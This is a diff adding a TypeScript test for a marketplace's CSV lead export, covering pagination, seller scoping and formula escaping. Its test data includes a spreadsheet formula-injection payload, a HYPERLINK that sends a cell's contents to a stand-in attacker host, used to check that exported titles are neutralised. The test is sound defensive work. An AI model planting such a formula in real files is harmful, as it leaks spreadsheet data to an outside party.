@@ -55,6 +55,13 @@ const leadsOf = async (seller: Bearer, listingId: string) => {
   return items[0];
 };
 
+async function exported(path: string, as: Bearer) {
+  const { headers, body } = await market.call<string>(`GET ${path}`, as);
+  const [, ...rows] = body.trimEnd().split('\r\n');
+  const [, next] = /^<(.*)>; rel="next"$/.exec(headers.get('link') ?? '') ?? [];
+  return { rows, next, type: headers.get('content-type') };
+}
+
 describe('leads', () => {
   it('name who asked, and count the others from five companies up', async () => {
     const { buyers, fact, seller } = await wanted('six', 6);
@@ -106,6 +113,34 @@ describe('leads', () => {
       expect(leads).not.toContain(companyId);
       expect(leads).not.toContain(memberId);
     }
+  });
+
+  it('are exported as CSV page by page, in which no title is a formula', async () => {
+    const title = '=HYPERLINK("http://evil.example?"&A1,"Open")';
+    const fact = listingFact();
+    const seller: Bearer = { companyId: fact.companyId, roles: ['exhibitor'] };
+    const buyers = [trader(), trader(), trader()];
+    for (const [at, { companyId: buyerId }] of buyers.entries()) {
+      const createdAt = `2026-11-0${at + 1}T00:00:00.000Z`;
+      await market.request(requestSent, requestFact(fact, { buyerId, title, createdAt }));
+    }
+    const whole = await eventually(async () => {
+      const file = await exported('/api/v1/leads/export', seller);
+      expect(file.rows).toHaveLength(3);
+      return file;
+    });
+    expect(whole.type).toMatch(/^text\/csv; charset=utf-8/);
+    const asked = buyers.toReversed().map(({ companyId }) => expect.stringContaining(companyId));
+    expect(whole.rows).toEqual(asked);
+    for (const row of whole.rows)
+      expect(row).toMatch(/^"'=HYPERLINK\(""http:\/\/evil.example\?""&A1,""Open""\)",/);
+    const first = await exported(`/api/v1/leads/export?limit=2&listingId=${fact.listingId}`, seller);
+    const rest = await exported(first.next ?? 'there is no more', seller);
+    expect([...first.rows, ...rest.rows]).toEqual(whole.rows);
+    expect(rest.next).toBeUndefined();
+    const stranger: Bearer = { companyId: randomUUID(), roles: ['exhibitor'] };
+    const route = `/api/v1/leads/export?listingId=${fact.listingId}`;
+    expect((await exported(route, stranger)).rows).toEqual([]);
   });
 
   it('are of one’s own listings alone', async () => {
